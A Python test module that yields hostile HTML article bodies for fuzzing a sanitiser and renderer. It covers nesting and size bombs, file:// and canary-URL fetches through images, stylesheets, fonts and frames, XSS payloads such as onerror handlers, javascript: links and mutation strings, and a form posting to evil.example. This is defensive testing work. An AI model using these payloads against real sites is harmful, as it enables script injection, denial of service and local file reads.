"""Hostile articles: what breaks sanitisers, parsers, layouts and the walls around them.

`CANARY` stands for a file or port the test watches; `articles(canary_file, canary_url)` fills it in.
"""

from collections.abc import Callable, Iterator
from random import Random
from typing import NamedTuple


class HostileArticle(NamedTuple):
    """A body's HTML and what it tries."""

    name: str
    html: str


def bombs() -> Iterator[HostileArticle]:
    """Yield bodies that take time or memory out of proportion to their size."""
    words = "word " * 50
    yield HostileArticle("nested divs", "<div>" * 50_000 + words)
    yield HostileArticle("nested divs closed", "<div>" * 150 + words + "</div>" * 150)
    yield HostileArticle("nested quotations", "<blockquote>" * 400 + words + "</blockquote>" * 400)
    yield HostileArticle("nested bold", "<b>" * 5_000 + words)
    yield HostileArticle("nested tables", "<table><tr><td>" * 70 + words + "</td></tr></table>" * 70)
    yield HostileArticle("wide cell", f"<table><tr><td colspan=1000000>{words}</td></tr></table>")
    yield HostileArticle("tall cell", f"<table><tr><td rowspan=1000000>{words}</td></tr></table>")
    yield HostileArticle("many wide cells", "<table>" + "<tr><td colspan=900>x</td></tr>" * 50 + "</table>")
    yield HostileArticle("many digits", f"<table><tr><td colspan={'9' * 100_000}>x</td></tr></table>")
    yield HostileArticle("column spans", "<table><col span=1000000><tr><td>x</td></tr></table>")
    yield HostileArticle("many cells", "<table><tr>" + "<td>x</td>" * 60 + "</tr></table>")
    yield HostileArticle("huge table", "<table>" + ("<tr>" + "<td>x</td>" * 50 + "</tr>") * 400 + "</table>")
    yield HostileArticle("line breaks", "<p>" + "<br>" * 15_000 + words + "</p>")
    yield HostileArticle("ruby", "<p>" + "<ruby>a<rt>b</rt></ruby>" * 3_000 + "</p>")
    yield HostileArticle("long", "<p>" + "a" * 4_000_000 + "</p>")
    yield HostileArticle("one word", "<p>" + "a" * 500_000 + "</p>")
    yield HostileArticle("many paragraphs", "<p>word</p>" * 40_000)
    yield HostileArticle("many spans", "<p>" + "<span>w</span> " * 29_000 + "</p>")
    yield HostileArticle("endless words", "<p>" + "word " * 590_000 + "</p>")
    yield HostileArticle("combining marks", "<p>" + "e" + "\u0301" * 50_000 + "</p>")
    yield HostileArticle("direction marks", "<p>" + "\u202e\u202d" * 50_000 + words + "</p>")
    yield HostileArticle("nested lists", "<ul><li>" * 60 + words + "</li></ul>" * 60)
    yield HostileArticle("list start", f"<ol start=99999999999999999999><li>{words}</li></ol>")
    yield HostileArticle("list value", f"<ol><li value=-99999999999999999999>{words}</li></ol>")
    yield HostileArticle("unclosed tags", "<i><b><u>" * 3_000 + words)
    yield HostileArticle("broken tags", "<p <p <p " * 50_000)
    yield HostileArticle("entities", "&amp;" * 500_000)
    yield HostileArticle("comments", "<!--" * 100_000 + words)
    yield HostileArticle("preformatted", "<pre>" + "\n" * 100_000 + "</pre>")


def intruders(path: str, url: str) -> Iterator[HostileArticle]:
    """Yield bodies that reach for the file at `path` or the server at `url`."""
    for address in (
        f"file://{path}",
        path,
        url,
        url.removeprefix("http:"),
        f"FILE://{path}",
        f"file://localhost{path}",
    ):
        yield HostileArticle(f"image {address}", f'<p>x</p><img src="{address}">')
        yield HostileArticle(
            f"figure {address}", f'<figure data-asset="0"><img src="{address}"></figure><p>x</p>'
        )
        yield HostileArticle(f"attachment {address}", f'<p>x <a rel="attachment" href="{address}">y</a></p>')
        yield HostileArticle(f"link {address}", f'<link rel="attachment" href="{address}"><p>x</p>')
        yield HostileArticle(f"sheet {address}", f'<link rel="stylesheet" href="{address}"><p>x</p>')
        yield HostileArticle(f"import {address}", f"<style>@import url({address});</style><p>x</p>")
        yield HostileArticle(f"background {address}", f'<p style="background:url({address})">x</p>')
        face = f"@font-face{{font-family:x;src:url({address})}}"
        yield HostileArticle(f"font {address}", f"<style>{face}</style><p>x</p>")
        yield HostileArticle(f"object {address}", f'<object data="{address}"></object><p>x</p>')
        yield HostileArticle(f"embed {address}", f'<embed src="{address}"><p>x</p>')
        yield HostileArticle(f"frame {address}", f'<iframe src="{address}"></iframe><p>x</p>')
        yield HostileArticle(
            f"svg {address}", f'<svg><image href="{address}"/><use href="{address}"/></svg><p>x</p>'
        )
        yield HostileArticle(f"base {address}", f'<base href="{address}"><img src="a"><p>x</p>')
        yield HostileArticle(
            f"source {address}", f'<picture><source srcset="{address}"><img></picture><p>x</p>'
        )
        yield HostileArticle(f"input {address}", f'<input type="image" src="{address}"><p>x</p>')
        yield HostileArticle(
            f"meta {address}", f'<meta http-equiv="refresh" content="0;url={address}"><p>x</p>'
        )


def _addresses(path: str, url: str) -> tuple[str, ...]:
    return (
        f"file://{path}",
        path,
        url,
        url.removeprefix("http:"),
        f"FILE://{path}",
        f"file://localhost{path}",
    )


def scripts() -> Iterator[HostileArticle]:
    """Yield bodies that try to carry a script into the HTML copy."""
    for payload in (
        "<script>alert(1)</script>",
        "<p onclick=alert(1)>x</p>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href='  java\tscript:alert(1)'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='vbscript:x'>x</a>",
        "<svg><script>alert(1)</script></svg>",
        "<svg/onload=alert(1)>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=alert(1)&gt;'>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<template><script>alert(1)</script></template>",
        "<img src=x onerror=alert(1)>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<form action=https://evil.example><input name=a><button>x</button></form>",
        "<style>*{background:url(https://evil.example)}</style>",
        "<p style='position:fixed;inset:0'>x</p>",
        "</article></main><script>alert(1)</script>",
        "<!-- licensed article ends --><p>x</p>",
        "<p>x</p>--><script>alert(1)</script>",
    ):
        yield HostileArticle(payload[:40], f"<p>before</p>{payload}<p>after</p>")


def generated(count: int, seed: int, path: str, url: str) -> Iterator[HostileArticle]:
    """Yield `count` bodies thrown together from one to four evils each; the same seed gives the same."""
    chance = Random(seed)  # noqa: S311 - it has to be repeatable, not secret
    ready = [attack.html for attack in (*intruders(path, url), *scripts())]
    for number in range(count):
        evils = [chance.choice(_EVILS) for _ in range(chance.randint(1, 4))]
        parts = [evil(chance) for evil in evils] + [chance.choice(ready), "<p>Some words of an article.</p>"]
        chance.shuffle(parts)
        names = " and ".join(evil.__name__.strip("_") for evil in evils)
        yield HostileArticle(f"{number}: {names}", "".join(parts))


def _many(chance: Random, most: int) -> int:
    """Return a number up to `most`, small ones as likely as large ones."""
    return int(most ** chance.random())


def _nests(chance: Random) -> str:
    inside = [chance.choice(_ELEMENTS) for _ in range(chance.randint(1, 3))]
    times = _many(chance, 60_000)
    opened = "".join(f"<{name}>" for name in inside) * times
    closed = "".join(f"</{name}>" for name in reversed(inside)) * times
    return f"{opened}words{closed if chance.random() < 0.5 else ''}"


def _repeats(chance: Random) -> str:
    name = chance.choice(_ELEMENTS)
    return f"<{name}>word </{name}>" * _many(chance, 40_000)


def _table(chance: Random) -> str:
    spans = " ".join(f"{name}={_number(chance)}" for name in ("colspan", "rowspan") if chance.random() < 0.7)
    row = "<tr>" + f"<td {spans}>x</td>" * _many(chance, 200) + "</tr>"
    return f"<table><col span={_number(chance)}>{row * _many(chance, 2_000)}</table>"


def _list(chance: Random) -> str:
    kind = chance.choice(("ol", "ul", "dl"))
    item = f"<li value={_number(chance)} type={chance.choice('aAiI1')}>item"
    return f"<{kind} start={_number(chance)} reversed>{item * _many(chance, 5_000)}</{kind}>"


def _letters(chance: Random) -> str:
    return f"<p>{chance.choice(_LETTERS) * _many(chance, 200_000)}</p>"


def _breaks(chance: Random) -> str:
    return "<p>" + chance.choice(("<br>", "<wbr>", "&shy;", "<ruby>a<rt>b</rt></ruby>")) * _many(
        chance, 30_000
    )


def _preformatted(chance: Random) -> str:
    return "<pre>" + chance.choice(("\n", "\t", " \n", "x ")) * _many(chance, 100_000) + "</pre>"


def _broken(chance: Random) -> str:
    return chance.choice(_BROKEN) * _many(chance, 30_000)


def _attribute(chance: Random) -> str:
    name = chance.choice(("href", "title", "lang", "dir", "data-asset", "datetime", "style", "class", "id"))
    return f'<a {name}="{chance.choice(_LETTERS) * _many(chance, 100_000)}">x</a>'


def _figures(chance: Random) -> str:
    return f"<figure data-asset={_number(chance)}><figcaption>c</figcaption></figure>" * _many(chance, 2_000)


def _number(chance: Random) -> str:
    return chance.choice(("0", "-1", "1e9", "65535", "1000000", "9" * 400, "NaN", "٣", "2", "0x10", "", "½"))


_EVILS: tuple[Callable[[Random], str], ...] = (
    _nests,
    _repeats,
    _table,
    _list,
    _letters,
    _breaks,
    _preformatted,
    _broken,
    _attribute,
    _figures,
)

_ELEMENTS = (
    *("div", "p", "b", "i", "a", "span", "blockquote", "section", "ul"),
    *("ol", "li", "table", "tr", "td", "h1", "h6", "sup", "sub"),
    *("q", "bdo dir=rtl", "details", "figure", "dl", "dd", "pre", "font", "center"),
    *("math", "svg", "form", "button", "select", "option", "template", "noscript", "marquee"),
    *("x-y", "frameset"),
)

_LETTERS = (
    *("a", "a ", "W", "ـ", "لا", "e\u0301", "\u0301", "\u202e", "\u2066", "\u200d", "\u00ad", "\u200b"),
    *("\ufeff", "\U0001f469\u200d\U0001f467", "\U000e0041", "ﷺ", "\U000124ab", "\u0e01\u0e47", "ё"),
    *("&amp;", "&#x10ffff;", "&#0;", "&nbsp;", "-", "/", "%", "\u2028"),
)

_BROKEN = (
    *("<p <p ", "<!--", "<![CDATA[", "<?x ", "</", "<", "&#", "<a href='", '<a b="', "</p></div>"),
    *("<!doctype x>", "<table><p>", "<a><a>", "<select><p>", "<svg><p>", "<title>", "<textarea>"),
    *("<plaintext>", "<b><p></b>", "]]>"),
)
